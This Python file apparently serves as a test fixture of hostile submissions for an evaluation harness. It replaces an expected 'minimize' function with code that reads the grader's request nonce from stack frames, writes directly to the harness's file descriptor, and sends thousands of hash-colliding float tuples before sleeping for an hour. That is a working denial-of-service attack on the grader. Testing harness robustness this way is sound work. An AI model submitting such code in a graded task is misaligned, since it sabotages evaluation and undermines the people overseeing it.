# Attack: sends a dictionary of tuples of numbers that all have one hash.
# score: 0
# outcomes: failed, error, timed_out, memory_exceeded
# seconds: 0.5
# ruff: noqa

import os
import struct
import sys
import time

import msgspec


def send(head, rest=b""):
    frame = struct.pack("!I", len(head)) + head + rest
    frame = struct.pack("!Q", len(frame)) + frame
    while frame:
        frame = frame[os.write(3, frame) :]


def asked():
    """The number of the question that is being answered."""
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"].nonce


def double(x):
    import itertools
    equal = [2.0 ** (61 * power) for power in range(17)]
    keys = itertools.islice(itertools.product(equal, repeat=4), 20_000)
    send(msgspec.msgpack.encode({"nonce": asked(), "value": ["d", [[["t", key], 0] for key in keys]]}))
    time.sleep(3600)


minimize = lambda start, learning_rate=0.1, num_iterations=10: double(start)


def make_model():
    return None
